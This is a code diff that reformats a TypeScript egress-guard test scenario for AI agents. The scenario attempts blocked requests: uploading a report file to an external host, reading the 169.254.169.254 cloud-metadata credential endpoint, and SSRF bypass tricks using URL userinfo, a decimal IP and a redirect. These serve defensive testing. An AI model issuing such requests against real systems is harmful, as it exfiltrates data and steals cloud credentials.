@@ -69,7 +69,13 @@ export async function runEgressScenario(print: Print): Promise<{ audit: MemoryAu
     },
   })
   const summarizer = authority.agent('agent-summarizer-v2')!.declaration
-  const verifier = createVerifier({ id: 'agent-database-reader', issuers: [authority.trustedIssuer()], store: authority.store, audit, mode: 'enforce' })
+  const verifier = createVerifier({
+    id: 'agent-database-reader',
+    issuers: [authority.trustedIssuer()],
+    store: authority.store,
+    audit,
+    mode: 'enforce',
+  })
   const guard = createAgentCallGuard({ verifier })
   dbHolder.handler = guard.node((req, res) => {
     if (req.url?.startsWith('/export')) {
@@ -106,8 +112,12 @@ export async function runEgressScenario(print: Print): Promise<{ audit: MemoryAu
     await attempt(print, `POST http://external-api.com:${external.port}/upload (a port that answers)`, () =>
       http({ url: `http://external-api.com:${external.port}/upload`, method: 'POST', body: 'q3-report.pdf' }),
     )
-    await attempt(print, 'GET http://169.254.169.254/latest/meta-data/ (cloud credentials)', () => http({ url: 'http://169.254.169.254/latest/meta-data/' }))
-    await attempt(print, `GET http://agent-database-reader:${db.port}@external-api.com/ (userinfo trick)`, () => http({ url: `http://agent-database-reader:${db.port}@external-api.com/` }))
+    await attempt(print, 'GET http://169.254.169.254/latest/meta-data/ (cloud credentials)', () =>
+      http({ url: 'http://169.254.169.254/latest/meta-data/' }),
+    )
+    await attempt(print, `GET http://agent-database-reader:${db.port}@external-api.com/ (userinfo trick)`, () =>
+      http({ url: `http://agent-database-reader:${db.port}@external-api.com/` }),
+    )
     await attempt(print, 'GET http://2130706433/ (127.0.0.1 in decimal)', () => http({ url: 'http://2130706433/' }))
     await attempt(print, 'agent-database-reader redirects the summarizer to external-api.com', () => http({ url: `${dbOrigin}/export` }))
     await attempt(print, 'anyone -> agent-database-reader without a capability token', async () => {
